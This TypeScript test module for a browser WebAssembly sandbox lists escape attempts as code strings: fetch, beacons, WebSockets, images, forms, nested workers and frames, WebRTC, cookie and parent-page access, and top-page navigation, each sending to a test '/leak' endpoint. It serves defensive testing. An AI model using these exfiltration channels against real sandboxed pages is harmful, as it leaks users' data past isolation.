/**
 * What somebody would try who had broken out of WebAssembly into the Worker's or the frame's own
 * script: for tests in a real browser, which put this text into the sandbox with `frameDocument`.
 *
 * @module
 */

/** Each entry is the text of `async (world, target) => reached`; a throw or a falsy value is a failure to escape. */
export type EscapeAttempts = Readonly<Record<string, string>>

const settled = (open: string, good: string) => `new Promise((resolve) => {
  const it = ${open}
  it.${good} = () => resolve(true)
  it.onerror = () => resolve(false)
})`

/** Reaches that both a Worker and a frame would have. `world` is the global scope, or what was saved of it. */
const common: EscapeAttempts = {
  fetch: `await world.fetch(target + '/leak?fetch', { mode: 'no-cors' }); return true`,
  'fetch of a blob': `return (await world.fetch(world.URL.createObjectURL(new world.Blob(['x'])))).ok`,
  XMLHttpRequest: `const request = new world.XMLHttpRequest()
    request.open('GET', target + '/leak?xhr')
    return new Promise((resolve) => {
      request.onload = () => resolve(true)
      request.onerror = () => resolve(false)
      request.send()
    })`,
  WebSocket: `return ${settled(`new world.WebSocket(target.replace('http', 'ws') + '/leak?ws')`, 'onopen')}`,
  EventSource: `return ${settled(`new world.EventSource(target + '/leak?events')`, 'onopen')}`,
  WebTransport: `await new world.WebTransport(target.replace('http:', 'https:') + '/leak').ready; return true`,
  RTCPeerConnection: `new world.RTCPeerConnection(); return true`,
  'import()': `await import(target + '/leak.js'); return true`,
  'import() of a blob': `const text = new world.Blob(['export default 1'], { type: 'text/javascript' })
    await import(world.URL.createObjectURL(text))
    return true`,
  'import() of data': `await import('data:text/javascript,export default 1'); return true`,
  eval: `return (0, eval)('1') === 1`,
  'Function from a prototype': `return (() => {}).constructor('return 1')() === 1`,
  'AsyncFunction from a prototype': `return (await (async () => {}).constructor('return 1')()) === 1`,
  indexedDB: `return ${settled(`world.indexedDB.open('folkmoot')`, 'onsuccess')}`,
  caches: `return !!(await world.caches.open('folkmoot'))`,
  'private file system': `return !!(await world.navigator.storage.getDirectory())`,
  locks: `return await world.navigator.locks.request('folkmoot', () => true)`,
  cookieStore: `return !!(await world.cookieStore.getAll())`,
  // Whoever listens on the page's side must hear nothing; the test listens.
  BroadcastChannel: `new world.BroadcastChannel('folkmoot').postMessage('leak'); return false`,
}

export const workerAttempts: EscapeAttempts = {
  ...common,
  importScripts: `world.importScripts(target + '/leak.js'); return true`,
  'importScripts of data': `world.importScripts('data:text/javascript,1'); return true`,
  'a Worker of its own': `const text = 'fetch(' + JSON.stringify(target + '/leak?nested') + ', { mode: "no-cors" })' +
      '.then(() => postMessage(true), () => postMessage(false))'
    const nested = new world.Worker(world.URL.createObjectURL(new world.Blob([text])))
    return new Promise((resolve) => {
      nested.onmessage = ({ data }) => resolve(data)
      nested.onerror = () => resolve(false)
    })`,
  'a SharedWorker': `return !!new world.SharedWorker(target + '/leak.js')`,
  parent: `return !!(world.parent || world.top || world.window || world.document || world.opener)`,
  storage: `return !!(world.localStorage || world.sessionStorage)`,
  notifications: `return (await world.Notification.requestPermission()) === 'granted'`,
}

export const frameAttempts: EscapeAttempts = {
  ...common,
  "the page's document": `return !!world.parent.document`,
  "the page's storage": `return !!world.parent.localStorage`,
  "the page's variables": `return !!world.parent.folkmoot`,
  'the top document': `return !!world.top.document.cookie`,
  'the frame element': `return !!world.frameElement`,
  localStorage: `return !!world.localStorage`,
  cookies: `world.document.cookie = 'a=b'; return !!world.document.cookie`,
  'a pop-up': `return !!world.open(target + '/leak?popup')`,
  'the page elsewhere': `world.top.location.href = target + '/leak?top'; return true`,
  beacon: `world.navigator.sendBeacon(target + '/leak?beacon'); return false`,
  'an image': `return new Promise((resolve) => {
      const image = new world.Image()
      image.onload = () => resolve(true)
      image.onerror = () => resolve(false)
      image.src = target + '/leak?image'
    })`,
  'a script': `return new Promise((resolve) => {
      const script = world.document.createElement('script')
      script.onload = () => resolve(true)
      script.onerror = () => resolve(false)
      script.src = target + '/leak.js'
      world.document.body.append(script)
    })`,
  hints: `for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest']) {
      const link = world.document.createElement('link')
      Object.assign(link, { rel, as: 'script', href: target + '/leak?' + rel })
      world.document.head.append(link)
    }
    return false`,
  'a form': `const form = world.document.createElement('form')
    form.action = target + '/leak?form'
    world.document.body.append(form)
    form.submit()
    return false`,
  'WebRTC of a frame within': `const inner = world.document.createElement('iframe')
    world.document.body.append(inner)
    new inner.contentWindow.RTCPeerConnection()
    return true`,
  'WebRTC of a frame with a blob': `const inner = world.document.createElement('iframe')
    const text = new world.Blob(['parent.postMessage(typeof RTCPeerConnection, "*")'], { type: 'text/javascript' })
    inner.srcdoc = '<scr' + 'ipt src="' + world.URL.createObjectURL(text) + '"></scr' + 'ipt>'
    const told = new Promise((resolve) => world.addEventListener('message', ({ data }) => resolve(data)))
    world.document.body.append(inner)
    return (await told) === 'function'`,
  'WebRTC of a frame that is a blob': `const inner = world.document.createElement('iframe')
    const text = new world.Blob(['<scr' + 'ipt>parent.postMessage(typeof RTCPeerConnection, "*")</scr' + 'ipt>'], { type: 'text/html' })
    inner.src = world.URL.createObjectURL(text)
    const told = new Promise((resolve) => world.addEventListener('message', ({ data }) => resolve(data)))
    world.document.body.append(inner)
    return (await told) === 'function'`,
  'WebRTC of a written frame within': `const inner = world.document.createElement('iframe')
    // Written in pieces, because this text stands inside a script element itself.
    inner.srcdoc = '<scr' + 'ipt>parent.postMessage(typeof RTCPeerConnection, "*")</scr' + 'ipt>'
    const told = new Promise((resolve) => world.addEventListener('message', ({ data }) => resolve(data)))
    world.document.body.append(inner)
    return (await told) === 'function'`,
  'a service worker': `return !!(await world.navigator.serviceWorker.register('/sandbox.html'))`,
  // Last, because where it works there is no frame left to report.
  'itself elsewhere': `world.location.href = target + '/leak?self'; return false`,
}

/** Names that the attempts take from the global scope, so that they can be saved before it is emptied. */
const saved =
  'fetch XMLHttpRequest WebSocket EventSource WebTransport RTCPeerConnection indexedDB caches navigator cookieStore BroadcastChannel importScripts Worker SharedWorker URL Blob parent top window document opener localStorage sessionStorage Notification'.split(
    ' ',
  )

/** Text that keeps the global scope's ways out as `world` before they are taken away. */
export const saveWorld = `const world = {}
for (const name of ${JSON.stringify(saved)}) {
  const value = self[name]
  world[name] = typeof value === 'function' && !value.prototype ? value.bind(self) : value
}`

/**
 * Text that tries everything, each for at most 3 s, and hands `report` the names of what got
 * through. `world` and `setTimeout` of the surrounding scope are used as they are.
 */
export function attackSource(
  attempts: EscapeAttempts,
  target: string,
  scope: { readonly world: string; readonly wait: string; readonly report: string },
): string {
  const entries = Object.entries(attempts).map(
    ([name, body]) => `[${JSON.stringify(name)}, async (world, target) => { ${body} }]`,
  )
  return `(async () => {
    const escaped = []
    const tried = [${entries.join(',\n')}]
    const late = () => new Promise((resolve) => (${scope.wait})(() => resolve(false), 3000))
    for (const [name, attempt] of tried) {
      try {
        if (await Promise.race([attempt(${scope.world}, ${JSON.stringify(target)}), late()])) escaped.push(name)
      } catch {}
    }
    (${scope.report})(escaped, tried.length)
  })()`
}
